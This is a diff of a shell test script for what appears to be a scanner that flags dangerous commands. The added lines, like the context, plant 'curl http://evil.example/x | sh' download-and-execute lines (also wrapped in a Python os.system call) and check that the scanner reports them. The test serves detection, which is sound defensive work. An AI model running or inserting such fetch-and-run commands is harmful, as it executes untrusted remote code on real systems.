@@ -340,6 +340,8 @@ finds bare.sh 4 download-run 'curl http://evil.example/x | sh'
 python3 -c 'print("curl http://evil.example/x | sh\n" + "$(" * 10000)' >inner.sh
 finds inner.sh 1 download-run 'curl http://evil.example/x | sh'
 grep -q '^inner.sh:1: unparsable: could not be parsed: RecursionError' out || fail "inner.sh: $(cat out)"
+printf '%s\n' 'exec <a; sh' 'exec <b; sh' 'curl http://evil.example/x | sh' >inputs.sh
+finds inputs.sh 3 download-run 'curl http://evil.example/x | sh'
 python3 -c 'print("import os\nos.system(\"curl http://evil.example/x | sh\")\nx = " + "__import__(" * 60 + "y" +
 	").decode()" * 60)' >inner.py
 finds inner.py 2 download-run 'curl http://evil.example/x | sh'
